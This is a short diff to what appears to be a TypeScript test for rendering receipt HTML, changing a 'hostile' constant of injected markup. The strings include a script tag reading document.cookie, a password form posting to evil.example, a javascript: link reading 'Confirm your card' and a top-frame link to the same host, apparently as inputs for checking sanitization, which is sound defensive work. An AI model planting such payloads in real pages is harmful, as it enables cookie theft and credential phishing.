@@ -55,5 +55,5 @@ function row(label: string, amount: string): string {
 }
 
 const hostile =
-  '<script>globalThis.stolen = document.cookie</script><img src="https://tracker.example/receipt.gif" onerror="globalThis.stolen = 1" alt="">' +
-  '<form action="https://evil.example/"><input name="password"></form><p><a href="javascript:globalThis.stolen=1">Confirm your card</a></p>'
+  '<script>globalThis.stolen = document.cookie</script><form action="https://evil.example/"><input name="password"></form>' +
+  '<p><a href="javascript:globalThis.stolen=1">Confirm your card</a> <a href="https://evil.example/" target="_top">here</a></p>'
